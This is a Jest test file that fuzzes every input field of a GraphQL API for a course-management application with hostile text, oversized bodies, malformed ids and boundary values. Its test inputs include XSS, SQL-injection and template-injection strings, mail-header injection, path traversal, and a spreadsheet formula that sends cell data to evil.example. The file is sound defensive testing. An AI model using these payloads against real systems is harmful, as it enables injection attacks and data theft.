import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { GraphQLSchemaHost } from '@nestjs/graphql';
import type { PersonActor } from '#kernel/actor.js';
import { isId } from '#kernel/ids.js';
import { planMeetings } from '../support/coming-sessions.js';
import { fillEveryTable } from '../support/every-table.js';
import { openIdentityProvider, type IdentityProvider } from '../support/identity-provider.js';
import { keepRows, type KeptRows } from '../support/kept-rows.js';
import { operationsOf, withValueAt, type InputLeaf, type Operation } from '../support/operations.js';
import { ownValuesOf } from '../support/own-values.js';
import { openTestApi, type Answer, type TestApi } from '../support/test-api.js';
import { openTestHouse, type TestHouse } from '../support/test-house.js';
import { settleTwoPartnerships, type Partnership } from '../support/two-partnerships.js';

/** Stands in every hostile text, so that it can be found wherever it went. */
const MARK = 'Zqx7';

const TEXTS: Readonly<Record<string, string>> = {
  '100,000 characters': MARK + 'x'.repeat(100_000),
  'a line break and a mail header': `${MARK}\r\nBcc: everyone@example.nl`,
  'a null character': `${MARK}\0end`,
  'text that turns around': `${MARK}\u202Egnp.exe`,
  'half a character': `${MARK}\uD83D`,
  'a pile of marks': `${MARK}${'\u0301'.repeat(500)}`,
  'a script': `<script>alert("${MARK}")</script>`,
  'a formula': `=HYPERLINK("https://evil.example?x="&A1,"${MARK}")`,
  'an end of a statement': `${MARK}'); drop table person; --`,
  'a template': `${MARK} {{constructor.constructor('return 1')()}} \${7*7} %s %n`,
  'an emoji of seven code points': `${MARK} 👩‍👩‍👧‍👦 naïef`,
  nothing: '',
  'only spaces': '   ',
};
/** These belong in no value, however long it may be. */
const NOWHERE = ['a null character', 'text that turns around', 'half a character', 'a pile of marks'];

let house: TestHouse;
let api: TestApi;
let provider: IdentityProvider;
let kept: KeptRows;
let ours: Partnership;
let operations: Operation[];
/** Who can, with what, and with what besides. */
let valid: Map<Operation, Tried>;
type Values = Record<string, unknown>;
interface Tried {
  readonly actor: PersonActor;
  readonly variables: Values;
  readonly everything: Values;
  readonly outcome: string;
}

beforeAll(async () => {
  house = await openTestHouse();
  ({ ours } = await settleTwoPartnerships(house));
  await fillEveryTable(house, ours);
  await planMeetings(house, ours);
  api = await openTestApi(house);
  provider = await openIdentityProvider('http://leergang.example/api/sign-in/oidc/callback');
  const variablesOf = await ownValuesOf(house, api, ours, provider);
  const people = [ours.coordinator, ours.administrator, ours.participants[0]];
  for (const actor of people) await api.ask(actor, '{ __typename }'); // their sign-in sessions are among the rows kept
  kept = await keepRows(house);
  operations = operationsOf(api.app.get(GraphQLSchemaHost, { strict: false }).schema);
  valid = new Map();
  for (const operation of operations) {
    const variables = variablesOf(operation);
    const everything = variablesOf(operation, 'everything');
    for (const actor of people) {
      const outcome = outcomeOf(operation, await api.ask(actor, operation.document(1), variables));
      if (outcome === 'done' || !valid.has(operation)) valid.set(operation, { actor, variables, everything, outcome });
      if (outcome !== 'done') continue;
      if (operation.kind === 'mutation') await kept.restore();
      break;
    }
  }
}, 300_000);

afterAll(async () => {
  await kept?.close();
  await provider?.close();
  await api?.close();
  await house?.close();
});

describe('input through the API', () => {
  it('is understood when it is good, or the rest of this test would prove little', () => {
    const notDone = [...valid].filter(([, { outcome }]) => outcome !== 'done');
    expect(notDone.map(([{ name }, { outcome }]) => `${name}: ${outcome}`)).toEqual([]);
  });

  it('that is hostile text is refused at its field or kept as it is, in every field there is', async () => {
    const wrong: string[] = [];
    const tried = { refused: 0, kept: 0 };
    for (const [operation, leaf] of fieldsOf('String'))
      for (const [kind, text] of Object.entries(TEXTS)) {
        const { outcome, answer, problems } = await tryWith(operation, leaf, text);
        const say = (what: string) => wrong.push(`${operation.name} ${leaf.path.join('.')}, ${kind}: ${what}`);
        if (outcome === 'INVALID_INPUT') {
          tried.refused += 1;
          if (!problems.includes(nameOf(leaf))) say(`refused at ${problems.join(', ')}`);
          continue;
        }
        // A token is ours or it is not: there is nothing to mend in it. Whoever tries many is told to wait.
        if ((outcome === 'LINK_NOT_VALID' || outcome === 'TOO_MANY_ATTEMPTS') && nameOf(leaf) === 'token') continue;
        if (outcome !== 'done' && !(outcome === 'BAD_USER_INPUT' && operation.kind === 'query')) say(outcome);
        const rows = (await kept.writtenWith(MARK)).map((row) => JSON.parse(row) as unknown);
        const found = [JSON.parse(answer) as unknown, ...rows].flatMap(stringsIn).filter((one) => one.includes(MARK));
        const whole = text.trim();
        const changed = found.filter((one) => !one.includes(whole));
        if (changed.length > 0) say(`became ${changed[0]!.slice(0, 80)}`);
        if (found.length > 0) tried.kept += 1;
        if (found.length > 0 && NOWHERE.includes(kind)) say('kept');
        if (outcome === 'done' && operation.kind === 'mutation') await kept.restore();
      }
    expect(wrong).toEqual([]);
    expect(tried.refused).toBeGreaterThan(200);
    expect(tried.kept).toBeGreaterThan(100);
  }, 300_000);

  it('of 10 MB does not come in', async () => {
    const text = 'x'.repeat(10_000_000);
    const here = 'the text comes here';
    for (const [operation, leaf] of fieldsOf('String')) {
      const { actor, variables, everything } = valid.get(operation)!;
      const given = withValueAt(filledUp(variables, everything, leaf.path) as Values, leaf.path, here);
      const payload = JSON.stringify({ query: operation.document(1), variables: given });
      const response = await api.inject(actor, {
        method: 'POST',
        url: '/graphql',
        headers: { 'content-type': 'application/json' },
        payload: payload.replace(here, text), // writing out so much anew for every field would take long
      });
      expect(response.statusCode).toBe(413);
    }
  }, 300_000);

  it('that is no id names nothing', async () => {
    const ids = [
      '',
      'x',
      '../../etc/passwd',
      `${MARK}\0`,
      "'; --",
      '1',
      '00000000-0000-0000-0000-000000000000',
      'x'.repeat(9_000),
    ];
    await expectOutcomes(
      'ID',
      ids,
      ['INVALID_INPUT', 'NOT_FOUND', 'LINK_NOT_VALID', 'NOT_PERMITTED'],
      ({ kind, answer }) => kind === 'query' && /:(null|\[\])|"totalCount":0/.test(answer),
    );
  }, 300_000);

  it('that is no number, day, time or moment is told apart from an error of ours', async () => {
    const told = ['BAD_USER_INPUT'];
    await expectOutcomes('Int', ['1', 1.5, 1e100, '', [], {}], told);
    await expectOutcomes('Day', ['', '2027-02-30', '2027-1-1', '2027-01-12T00:00:00Z', 20270112], told);
    await expectOutcomes('WallTime', ['', '24:00', '9:30', '09:30:00', '09:30+01:00'], told);
    await expectOutcomes('Instant', ['', 'tomorrow', '2027-01-12', '2027-13-12T00:00:00Z', 0], told);
    await expectOutcomes('String', [1, true, {}, ['a', 'b']], told);
    await expectOutcomes('ID', [{}, true], told);
    await expectOutcomes('Boolean', ['yes', 1, ''], told);
  }, 300_000);

  it('at the far end of what a type can hold is done or refused', async () => {
    const answers = (type: string, values: unknown[]) =>
      expectOutcomes(
        type,
        values,
        [
          'INVALID_INPUT',
          'CHANGED_MEANWHILE',
          'NOTHING_TO_CHANGE',
          'NO_DATES_LEFT',
          'TOO_LARGE',
          'TOO_LATE',
          'BAD_USER_INPUT',
        ],
        () => true,
      );
    await answers('Int', [-2_147_483_648, -1, 0, 2_147_483_647]);
    await answers('Day', ['0001-01-01', '9999-12-31', '2000-02-29']);
    await answers('WallTime', ['00:00', '23:59']);
    await answers('Instant', ['0001-01-01T00:00:00Z', '9999-12-31T23:59:59Z']);
    for (const type of ['ID', 'String', 'Int', 'Day', 'WallTime', 'Instant', 'Boolean']) await answers(type, [null]);
  }, 300_000);
});

/** Ids that may be any, or that say something only together with what is left out here. */
const LOOSE_IDS = [
  'answerDatePoll input.pollId', // the token says which
  'answerInvitation input.sessionId', // so here
  'changePerson input.organisationId',
  'checkIn input.lines.0.clientKey',
  'checkIn input.lines.0.registrationId', // answered line by line
  'evaluateMasterclass input.sessionId', // so here
  'hearOfNextMasterclass input.sessionId',
  'handIn input.clientKey',
  'register input.clientKey',
  'reserveSeats input.clientKey',
  'importLeergang input.organisationId', // told in the report, at its row
  'requestUpload input.assignmentId',
];

/** Where nothing in place of an id means something: none. */
const NONE_FOR_EMPTY = ['changeSession input.roomId', 'changePlan input.changes.0.roomId'];

/** Tries values in every place of a type; an outcome is one of the codes, or `done` where that is right as well. */
async function expectOutcomes(
  type: string,
  values: readonly unknown[],
  codes: readonly string[],
  mayBeDone: (done: { kind: Operation['kind']; answer: string }) => boolean = () => false,
): Promise<void> {
  const wrong: string[] = [];
  for (const [operation, leaf] of fieldsOf(type))
    for (const value of values) {
      const place = `${operation.name} ${leaf.path.join('.')}`;
      const { outcome, answer } = await tryWith(operation, leaf, value);
      if (outcome === 'done' && operation.kind === 'mutation') await kept.restore();
      const isRight =
        outcome === 'done'
          ? (LOOSE_IDS.includes(place) && isId(value)) ||
            (NONE_FOR_EMPTY.includes(place) && value === '') ||
            mayBeDone({ kind: operation.kind, answer })
          : codes.includes(outcome);
      if (!isRight) wrong.push(`${place} ${JSON.stringify(value)}: ${answer.slice(0, 200)}`);
    }
  expect(wrong).toEqual([]);
}

/** Every value of a type that an operation takes. */
function fieldsOf(type: string): [Operation, InputLeaf][] {
  return operations.flatMap((operation) =>
    operation.inputs.filter((leaf) => leaf.type === type).map((leaf): [Operation, InputLeaf] => [operation, leaf]),
  );
}

/** Asks an operation as whoever can, with one value that differs from good ones. */
async function tryWith(operation: Operation, leaf: InputLeaf, value: unknown) {
  const { actor, variables, everything } = valid.get(operation)!;
  const given = withValueAt(filledUp(variables, everything, leaf.path) as Values, leaf.path, value);
  const answer = await api.ask(actor, operation.document(1), given);
  const refusal = answer.data?.[operation.name] as { problems?: { path: string }[] } | null | undefined;
  return {
    outcome: outcomeOf(operation, answer),
    answer: JSON.stringify(answer),
    problems: refusal?.problems?.map(({ path }) => path) ?? [],
  };
}

/** The good values, with from the samples what has to be there around the value at the path. */
function filledUp(good: unknown, sample: unknown, [step, ...rest]: InputLeaf['path']): unknown {
  if (step === undefined) return good;
  if (good === undefined || good === null) return structuredClone(sample);
  const deeper = filledUp((good as never)[step], (sample as never)[step], rest);
  if (Array.isArray(good)) return good.map((one, index) => (index === step ? deeper : one) as unknown);
  return { ...good, [step]: deeper };
}

/** How problems name a value: without the argument, and a list as a whole. */
function nameOf({ path }: InputLeaf): string {
  return path
    .slice(path.length > 1 ? 1 : 0)
    .filter((step, index, { length }) => !(index === length - 1 && step === 0))
    .join('.');
}

function stringsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(stringsIn) : [];
}

/** In one word: `done`, or the code of the refusal or error. */
function outcomeOf({ name }: Operation, { data, errors }: Answer<Record<string, unknown>>): string {
  if (errors) return String(errors[0]!.extensions['code']);
  const thing = data![name] as { __typename?: string; code?: string } | null;
  return thing?.__typename === 'Refusal' ? thing.code! : 'done';
}
